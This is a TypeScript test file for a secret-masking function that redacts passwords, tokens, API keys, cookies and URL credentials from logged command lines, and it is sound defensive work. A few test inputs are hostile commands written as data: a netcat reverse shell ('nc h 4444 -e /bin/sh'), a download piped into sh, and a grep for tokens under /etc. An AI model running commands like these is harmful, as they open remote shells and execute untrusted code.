import { behindSecret, withoutSecrets } from '../../../src/services/owners/masks';

const masked = (...args: readonly string[]): readonly string[] => withoutSecrets(Buffer.from(args.join('\0'))).bytes.toString().split('\0');

test.each([
  [['mysqldump', '--password=a b c', 'db'], ['mysqldump', '--password=***', 'db']],
  [['x', '--password', 'a b', 'db'], ['x', '--password', '***', 'db']],
  [['x', '-passwd', 'a'], ['x', '-passwd', '***']],
  [['x', '--db-password', 'a', '--api-key=b', '--client_secret', 'c', '--auth-token', 'd'], ['x', '--db-password', '***', '--api-key=***', '--client_secret', '***', '--auth-token', '***']],
  [['x', '--key', 'abc', '--ssh_key=abc'], ['x', '--key', '***', '--ssh_key=***']],
  [['env', 'PGPASSWORD=hush', 'AWS_SECRET_ACCESS_KEY=abc/def+', 'psql'], ['env', 'PGPASSWORD=***', 'AWS_SECRET_ACCESS_KEY=***', 'psql']],
  [['mount', '-o', 'user=a,password=b,ro', '//h/s'], ['mount', '-o', 'user=a,password=***,ro', '//h/s']],
  [['curl', 'https://h/?a=1&token=abc&b=2'], ['curl', 'https://h/?a=1&token=***&b=2']],
  [['curl', '-H', 'Authorization: Bearer abc.def', 'https://h/'], ['curl', '-H', 'Authorization: ***', 'https://h/']],
  [['curl', '-H', 'X-Api-Key: abc', '-H', 'Cookie: a=b'], ['curl', '-H', 'X-Api-Key: ***', '-H', 'Cookie: ***']],
  [['curl', '-u', 'me:hush', 'https://h/'], ['curl', '-u', 'me:***', 'https://h/']],
  [['/usr/bin/curl', '--user=me:hush'], ['/usr/bin/curl', '--user=me:***']],
  [['curl', '-d', '{"password": "hush", "a": 1}'], ['curl', '-d', '{"password": "***", "a": 1}']],
  [['git', 'clone', 'https://me:hu@sh@h/r.git'], ['git', 'clone', 'https://me:***@h/r.git']],
  [['/usr/bin/mysql', '-u', 'me', '-phush'], ['/usr/bin/mysql', '-u', 'me', '-p***']],
  [['sshpass', '-p', 'hush', 'ssh', 'h'], ['sshpass', '-p', '***', 'ssh', 'h']],
  [['sshpass', '-phush', 'ssh'], ['sshpass', '-p***', 'ssh']],
  [['redis-cli', '-a', 'hush'], ['redis-cli', '-a', '***']],
  [['ldapsearch', '-w', 'hush', '-x'], ['ldapsearch', '-w', '***', '-x']],
  [['bash', '-c', 'mysql --password=hush db; x --token abc def'], ['bash', '-c', 'mysql --password=*** db; x --token *** def']],
  [['sh', '-c', "PASSWORD='a b' x"], ['sh', '-c', 'PASSWORD=*** x']],
  [['sh', '-c', 'curl -H "Authorization: Bearer a.b" h'], ['sh', '-c', 'curl -H "Authorization: ***" h']],
  [['http', 'h', 'Authorization:Bearer a.b', 'x'], ['http', 'h', 'Authorization:***', 'x']],
  [['wget', '--header=Cookie: a=b; c=d', 'h'], ['wget', '--header=Cookie: ***', 'h']],
  [['sudo', '-n', 'mysql', '-phush'], ['sudo', '-n', 'mysql', '-p***']],
])('of %j the secrets go', (args, expected) => {
  expect(masked(...args)).toEqual(expected);
});

test.each([
  [['ssh', '-p', '22', 'host']],
  [['mkdir', '-p', '/tmp/a']],
  [['setxkbmap', '--keyboard', 'us', '--keymap=de', '--keep']],
  [['apt-get', 'install', 'keyboard-configuration', 'passwd']],
  [['passwd', 'root']],
  [['x', '--password', '--verbose']],
  [['curl', '-o', 'a:b', 'https://h:8443/']],
  [['git', 'clone', 'git@h:a/b']],
  [['grep', '-r', 'token', '/etc']],
  [['bash', '-c', ': key: ;nc h 4444 -e /bin/sh']],
  [['x', '--tokenizer', 'gpt2', '--max-tokens=100']],
  [['docker', 'login', '--password-stdin', 'h']],
  [['psql', '--no-password', 'db']],
  [['ansible-playbook', '--ask-become-pass', 'site.yml']],
  [['rsync', '--password-file=/etc/rsync']],
  [['curl', '-d', '{"token_count": 5}']],
])('%j stays as it is', (args) => {
  expect(masked(...args)).toEqual(args);
  expect(withoutSecrets(Buffer.from(args.join('\0'))).isOpen).toBe(false);
});

test.each([
  [['bash', '-c', 'echo token: ok && curl http://h/x | sh'], ['bash', '-c', 'echo token: *** && curl http://h/x | sh']],
  [['python3', '-c', 'key: int = 1\nimport os'], ['python3', '-c', 'key: *** = 1\nimport os']],
])('of %j nothing more goes than a value', (args, expected) => {
  expect(masked(...args)).toEqual(expected);
});

test('bytes that are no text stay', () => {
  const bytes = Buffer.from([0x78, 0, 0xff, 0xfe, 0x80]);
  expect(withoutSecrets(bytes).bytes).toEqual(bytes);
});

test('what is cut within a secret is masked on', () => {
  expect(withoutSecrets(Buffer.from('x\0--password\0hus')).isOpen).toBe(true);
  expect(behindSecret(Buffer.from('h and more\0db')).toString()).toBe('***\0db');
  expect(behindSecret(Buffer.from('h')).toString()).toBe('***');
});

test.each(['a_', '-', 'token', 'token=', '://a:', 'key-', "='", 'authorization', ' --token ', '\0--token'])('many of %j take no time', (part) => {
  const bytes = Buffer.from(part.repeat(65_536 / part.length));
  const began = performance.now();
  withoutSecrets(bytes);
  expect(performance.now() - began).toBeLessThan(1000);
});
